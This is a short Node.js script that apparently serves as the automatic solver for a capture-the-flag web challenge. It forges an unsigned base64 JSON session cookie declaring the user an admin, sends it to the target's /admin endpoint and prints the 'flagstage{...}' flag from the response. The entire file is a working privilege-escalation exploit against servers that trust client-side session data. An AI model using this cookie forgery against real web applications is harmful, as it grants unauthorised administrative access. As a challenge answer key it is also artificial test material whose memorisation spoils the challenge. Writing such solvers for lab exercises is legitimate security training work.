// Automatic solver: node solve.mjs <host> <port>  → prints the flag.
const [host = '127.0.0.1', port = '3333'] = process.argv.slice(2);
const forged = Buffer.from(
  JSON.stringify({ user: 'admin', admin: true }),
).toString('base64');
const res = await fetch(`http://${host}:${port}/admin`, {
  headers: { cookie: `session=${encodeURIComponent(forged)}` },
});
const match = (await res.text()).match(/flagstage\{[^}]+\}/);
if (!match) {
  console.error(`no flag (HTTP ${res.status})`);
  process.exit(1);
}
console.log(match[0]);
